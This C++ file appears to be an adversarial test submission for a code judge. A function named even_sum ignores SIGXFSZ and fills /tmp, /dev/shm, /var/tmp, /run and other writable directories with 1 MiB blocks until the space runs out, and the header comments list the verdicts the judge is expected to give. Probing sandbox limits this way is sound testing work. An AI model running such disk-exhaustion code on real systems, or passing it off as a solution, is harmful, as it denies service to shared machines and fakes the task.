// tries: every place that can be written to, to the last byte
// verdict: wrong_answer, runtime_error, memory_limit_exceeded
#include <csignal>
#include <fcntl.h>
#include <unistd.h>
#include <string>
#include <vector>
using namespace std;

long long even_sum(vector<int> numbers) {
    signal(SIGXFSZ, SIG_IGN);
    vector<char> block(1 << 20, 'x');
    for (string folder : {".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue"})
        for (int n = 0; n < 20; n++) {
            int file = open((folder + "/" + to_string(n)).c_str(), O_WRONLY | O_CREAT, 0600);
            while (file >= 0 && write(file, block.data(), block.size()) > 0) {}
        }
    return 0;
}
